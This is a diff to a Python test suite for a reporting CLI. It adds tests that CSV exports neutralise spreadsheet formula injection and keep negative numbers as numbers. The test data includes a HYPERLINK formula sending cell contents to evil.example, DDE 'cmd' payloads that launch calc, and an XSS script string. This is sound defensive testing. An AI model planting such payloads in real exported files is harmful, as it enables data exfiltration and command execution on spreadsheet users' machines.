@@ -33,7 +33,7 @@ from strat_cli.model import (
     PartnerGap,
     Status,
 )
-from strat_cli.report import Report, Share, Source, build_report, csv_files, shown
+from strat_cli.report import Report, Share, Source, Table, build_report, csv_files, shown
 from strat_cli.report_page import page
 from strat_cli.samples import large, typical
 from strat_cli.store import FolderStore
@@ -794,6 +794,49 @@ def test_hostile_agency_text_is_printed_as_text_in_every_output(
     data = json.loads(runner.invoke(app, [*window, "--json"]).stdout)
     agencies = {r[0] for r in data["tables"]["actions"]["rows"]}
     assert "<script>alert(1)</script> & Co" in agencies
+
+
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "\r=CR first",
+    "\x00\x1b[2J=after controls",
+)
+
+
+def test_no_csv_cell_starts_a_formula_or_holds_a_control_character(
+    store: FolderStore, tmp_path: Path
+) -> None:
+    """OWASP's CSV injection: an agency typed as a formula is shown as text in a spreadsheet,
+    never run; the counts beside it stay numbers."""
+    actions = tuple((a, "2026-09-03T17:00", ActionStatus.open, None) for a in FORMULAS)
+    store.save(discussion("SD-2026-0001", "2026-09-02", actions=actions))
+    csv_dir = tmp_path / "csv"
+    window = ["report", "--from", "01/09/2026", "--to", "30/09/2026", "--csv", str(csv_dir)]
+    result = runner.invoke(app, window)
+    assert result.exit_code == 0, result.output
+    text = (csv_dir / "07-actions.csv").read_text("utf-8-sig")
+    assert not any(c in text.replace("\r\n", "") for c in "\x00\x1b\r")
+    rows = list(csv.reader(io.StringIO(text)))
+    agencies = [r[0] for r in rows[1:-1]]  # the last row is the total
+    assert len(agencies) == len(FORMULAS)
+    assert all(not a.startswith(("=", "+", "-", "@", "\t", "\r")) for a in agencies)
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in agencies
+    assert "'@SUM(1+1)" in agencies and "'=CR first" in agencies
+    # controls left out, the rest kept as typed (the server store keeps NUL as U+FFFD)
+    assert "[2J=after controls" in {a.lstrip("\ufffd") for a in agencies}
+    assert all(r[1] == "1" for r in rows[1:-1])  # each agency's count is a number
+
+
+def test_negative_numbers_stay_numbers_in_csv() -> None:
+    """Only text gets the `'`: a negative count or median is a number a spreadsheet sums."""
+    table = Table("t", "T", ["Label", "Days", "Median", "Note"], [["-1 day", -3, -1.5, "\tx"]])
+    made = datetime(2026, 11, 1, tzinfo=LONDON)
+    r = Report(date(2026, 9, 1), date(2026, 9, 30), None, made, 1, [], [table])
+    rows = list(csv.reader(io.StringIO(csv_files(r)["01-t.csv"])))
+    assert rows[1] == ["'-1 day", "-3", "-1.5", "'\tx"]
 
 
 @pytest.mark.skipif(os.name != "posix", reason="folder modes are POSIX")
